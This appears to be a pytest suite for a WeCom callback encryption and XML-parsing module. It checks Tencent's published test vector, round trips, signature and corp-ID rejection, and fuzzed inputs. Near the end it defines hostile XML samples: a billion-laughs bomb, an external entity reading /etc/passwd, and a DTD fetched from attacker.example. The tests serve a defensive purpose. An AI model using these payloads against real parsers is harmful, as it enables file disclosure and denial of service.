"""WeCom's callback crypto: the published test vector, round trips, and refusal
of everything malformed or hostile with the module's own errors."""

from __future__ import annotations

import base64
import struct
from xml.etree.ElementTree import Element, SubElement, tostring

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import given
from hypothesis import strategies as st

from bot.channels.wecom.crypto import (
    CorpIdError,
    CryptoFormatError,
    Envelope,
    SignatureError,
    WeComCrypto,
    WeComCryptoError,
    parse_callback,
    parse_message,
    signature,
)

# The vector of wechatpy's test suite (from Tencent's sample code).
TOKEN = "123456"
AES_KEY = "kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR"
CORP_ID = "wx49f0ab532d5d035a"
ECHOSTR = "4ByGGj+sVCYcvGeQYhaKIk1o0pQRNbRjxybjTGblXrBaXlTXeOo1+bXFXDQQb1o6co6Yh9Bv41n7hOchLF6p+Q=="
SIGNATURE = "dd6b9c95b495b3f7e2901bfbc76c664930ffdb96"
TIMESTAMP = "1411443780"
NONCE = "437374425"

CRYPTO = WeComCrypto(TOKEN, AES_KEY, CORP_ID)


def test_url_verification_answers_the_published_echostr() -> None:
    assert CRYPTO.verify_url(SIGNATURE, TIMESTAMP, NONCE, ECHOSTR) == "5927782489442352469"


def test_url_verification_with_another_nonce_is_refused() -> None:
    with pytest.raises(SignatureError):
        CRYPTO.verify_url(SIGNATURE, TIMESTAMP, "437374424", ECHOSTR)


def test_url_verification_with_another_token_is_refused() -> None:
    other = WeComCrypto("654321", AES_KEY, CORP_ID)
    with pytest.raises(SignatureError):
        other.verify_url(SIGNATURE, TIMESTAMP, NONCE, ECHOSTR)


def test_signature_is_sha1_of_the_sorted_parts() -> None:
    assert signature(TOKEN, TIMESTAMP, NONCE, ECHOSTR) == SIGNATURE


@pytest.mark.parametrize(
    "text",
    ["一号楼三层消防通道堵塞，请尽快处理。", "Ladder broken 🪜⚠️ near gate 3 👷‍♀️", "", "a" * 5000],
)
def test_a_message_we_encrypt_decrypts_to_the_same_bytes(text: str) -> None:
    plain = f"<xml><Content><![CDATA[{text}]]></Content></xml>".encode()
    encrypted, msg_signature = CRYPTO.encrypt(plain, "nonce-1", "1700000000")
    assert CRYPTO.decrypt(msg_signature, "1700000000", "nonce-1", encrypted) == plain
    assert parse_message(CRYPTO.decrypt(msg_signature, "1700000000", "nonce-1", encrypted)) == {
        "Content": text
    }


def test_ciphertexts_differ_for_the_same_message() -> None:
    first, _ = CRYPTO.encrypt(b"same", "n", "1")
    second, _ = CRYPTO.encrypt(b"same", "n", "1")
    assert first != second  # 16 random bytes lead every plaintext


def test_a_message_for_another_corp_is_refused() -> None:
    other_corp = WeComCrypto(TOKEN, AES_KEY, "ww0000000000000000")
    encrypted, msg_signature = other_corp.encrypt(b"<xml/>", "n", "1")
    with pytest.raises(CorpIdError):
        CRYPTO.decrypt(msg_signature, "1", "n", encrypted)


def test_a_tampered_ciphertext_is_refused_by_its_signature() -> None:
    encrypted, msg_signature = CRYPTO.encrypt(b"<xml/>", "n", "1")
    tampered = ("A" if encrypted[0] != "A" else "B") + encrypted[1:]
    with pytest.raises(SignatureError):
        CRYPTO.decrypt(msg_signature, "1", "n", tampered)


def _signed(encrypted: str) -> str:
    return signature(TOKEN, "1", "n", encrypted)


@pytest.mark.parametrize(
    "encrypted",
    [
        "",
        "not base64!",
        "QUJD",  # base64 of 3 bytes: not an AES block
        ECHOSTR[:-4],  # truncated
        base64.b64encode(b"\0" * 64).decode(),  # whole blocks of garbage
        "密文",
    ],
)
def test_malformed_ciphertext_is_a_format_error(encrypted: str) -> None:
    with pytest.raises(CryptoFormatError):
        CRYPTO.decrypt(_signed(encrypted), "1", "n", encrypted)


def _seal(body: bytes) -> str:
    """Encrypt a plaintext laid out by hand, padded as WeCom pads."""
    key = base64.b64decode(AES_KEY + "=")
    pad = 32 - len(body) % 32
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(
        encryptor.update(body + bytes([pad]) * pad) + encryptor.finalize()
    ).decode()


@pytest.mark.parametrize(
    "body",
    [
        b"r" * 16 + struct.pack(">I", 1000) + b"<xml/>" + CORP_ID.encode(),  # length too long
        b"r" * 10,  # shorter than the random prefix and the length
    ],
)
def test_a_plaintext_laid_out_wrongly_is_a_format_error(body: bytes) -> None:
    encrypted = _seal(body)
    with pytest.raises(CryptoFormatError):
        CRYPTO.decrypt(_signed(encrypted), "1", "n", encrypted)


def test_a_plaintext_without_a_receive_id_is_refused() -> None:
    encrypted = _seal(b"r" * 16 + struct.pack(">I", 6) + b"<xml/>")
    with pytest.raises(CorpIdError):
        CRYPTO.decrypt(_signed(encrypted), "1", "n", encrypted)


def test_bad_encoding_aes_key_is_a_configuration_error() -> None:
    with pytest.raises(ValueError):
        WeComCrypto(TOKEN, AES_KEY[:-1], CORP_ID)
    with pytest.raises(ValueError):
        WeComCrypto(TOKEN, "!" * 43, CORP_ID)


def test_callback_envelope_gives_the_ciphertext_and_the_addressee() -> None:
    body = (
        b"<xml><ToUserName><![CDATA[wx49f0ab532d5d035a]]></ToUserName>"
        b"<Encrypt><![CDATA[abc==]]></Encrypt><AgentID><![CDATA[1000002]]></AgentID></xml>"
    )
    assert parse_callback(body) == Envelope("abc==", "wx49f0ab532d5d035a", "1000002")


def test_callback_without_ciphertext_is_refused() -> None:
    with pytest.raises(CryptoFormatError):
        parse_callback(b"<xml><ToUserName>x</ToUserName></xml>")


def test_a_reply_is_an_envelope_we_can_open_again() -> None:
    reply = CRYPTO.reply(b"<xml><Content>ok</Content></xml>", "n2", "1700000001")
    fields = parse_message(reply)
    assert fields["TimeStamp"] == "1700000001"
    assert fields["Nonce"] == "n2"
    opened = CRYPTO.decrypt(fields["MsgSignature"], "1700000001", "n2", fields["Encrypt"])
    assert parse_message(opened) == {"Content": "ok"}


def test_inner_message_fields_are_read_including_nested_ones() -> None:
    xml = b"""<xml>
        <ToUserName><![CDATA[ww1234]]></ToUserName>
        <FromUserName><![CDATA[zhangsan]]></FromUserName>
        <CreateTime>1700000000</CreateTime>
        <MsgType><![CDATA[event]]></MsgType>
        <Event><![CDATA[template_card_event]]></Event>
        <EventKey><![CDATA[hazard:accept:42]]></EventKey>
        <TaskId><![CDATA[task-1]]></TaskId>
        <CardType><![CDATA[button_interaction]]></CardType>
        <ResponseCode><![CDATA[rc-abc]]></ResponseCode>
        <AgentID>1000002</AgentID>
        <SelectedItems>
            <SelectedItem>
                <QuestionKey><![CDATA[q1]]></QuestionKey>
                <OptionIds><OptionId><![CDATA[yes]]></OptionId></OptionIds>
            </SelectedItem>
        </SelectedItems>
    </xml>"""
    fields = parse_message(xml)
    assert fields["FromUserName"] == "zhangsan"
    assert fields["Event"] == "template_card_event"
    assert fields["EventKey"] == "hazard:accept:42"
    assert fields["ResponseCode"] == "rc-abc"
    assert fields["CardType"] == "button_interaction"
    assert fields["SelectedItems.SelectedItem.QuestionKey"] == "q1"


def test_location_and_picture_messages_keep_their_fields() -> None:
    picture = parse_message(
        b"<xml><MsgType>image</MsgType><PicUrl>http://p/1.jpg</PicUrl>"
        b"<MediaId>m-1</MediaId><MsgId>1234567</MsgId></xml>"
    )
    assert (picture["MsgType"], picture["MediaId"], picture["MsgId"]) == ("image", "m-1", "1234567")
    location = parse_message(
        b"<xml><MsgType>location</MsgType><Location_X>31.2304</Location_X>"
        b"<Location_Y>121.4737</Location_Y><Scale>15</Scale><Label></Label></xml>"
    )
    assert (location["Location_X"], location["Location_Y"]) == ("31.2304", "121.4737")
    assert location["Label"] == ""


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<xml><Encrypt>&lol9;</Encrypt></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><Content>&secret;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>x</Content></xml>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_is_refused(body: bytes) -> None:
    with pytest.raises(CryptoFormatError):
        parse_callback(body)
    with pytest.raises(CryptoFormatError):
        parse_message(body)


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml", b"<xml><Encrypt>", b"\xff\xfe\x00", b'<?xml encoding="nope"?><xml/>'],
)
def test_malformed_xml_is_a_format_error(body: bytes) -> None:
    with pytest.raises(CryptoFormatError):
        parse_message(body)


def test_deeply_nested_xml_is_read_without_recursion() -> None:
    body = b"<xml>" + b"<a>" * 50_000 + b"x" + b"</a>" * 50_000 + b"<B>1</B></xml>"
    assert parse_message(body)["B"] == "1"


@given(plain=st.binary(max_size=3000), nonce=st.text(max_size=20), timestamp=st.text(max_size=12))
def test_encrypt_then_decrypt_gives_back_any_bytes(
    plain: bytes, nonce: str, timestamp: str
) -> None:
    encrypted, msg_signature = CRYPTO.encrypt(plain, nonce, timestamp)
    assert CRYPTO.decrypt(msg_signature, timestamp, nonce, encrypted) == plain


@given(garbage=st.binary(max_size=400))
def test_any_signed_garbage_ciphertext_raises_only_crypto_errors(garbage: bytes) -> None:
    for encrypted in (base64.b64encode(garbage).decode(), garbage.decode("latin-1")):
        with pytest.raises(WeComCryptoError):
            CRYPTO.decrypt(_signed(encrypted), "1", "n", encrypted)


@given(
    msg_signature=st.text(max_size=50),
    timestamp=st.text(max_size=20),
    nonce=st.text(max_size=20),
    echostr=st.text(max_size=200),
)
def test_any_url_check_raises_only_crypto_errors(
    msg_signature: str, timestamp: str, nonce: str, echostr: str
) -> None:
    with pytest.raises(WeComCryptoError):
        CRYPTO.verify_url(msg_signature, timestamp, nonce, echostr)


@given(body=st.binary(max_size=500) | st.text(max_size=300).map(str.encode))
def test_any_xml_body_parses_or_raises_a_format_error(body: bytes) -> None:
    try:
        fields = parse_message(body)
    except CryptoFormatError:
        return
    assert all(isinstance(v, str) for v in fields.values())


@given(
    content=st.text(max_size=200),
    tag=st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,15}", fullmatch=True),
)
def test_any_xml_we_write_is_read_back(content: str, tag: str) -> None:
    root = Element("xml")
    # XML 1.0 cannot carry most control characters; WeCom never sends them.
    text = "".join(
        c for c in content if c in "\t\n" or (c >= " " and not 0xD800 <= ord(c) < 0xE000)
    )
    text = text.replace("\ufffe", "").replace("\uffff", "")
    SubElement(root, tag).text = text
    body = tostring(root, encoding="unicode").encode()
    assert parse_message(body)[tag] == text


@given(body=st.binary(max_size=200))
def test_any_plaintext_under_our_key_opens_or_raises_only_crypto_errors(body: bytes) -> None:
    encrypted = _seal(body)
    try:
        opened = CRYPTO.decrypt(_signed(encrypted), "1", "n", encrypted)
    except WeComCryptoError:
        return
    assert body.endswith(opened + CORP_ID.encode())  # only a well-formed layout opens
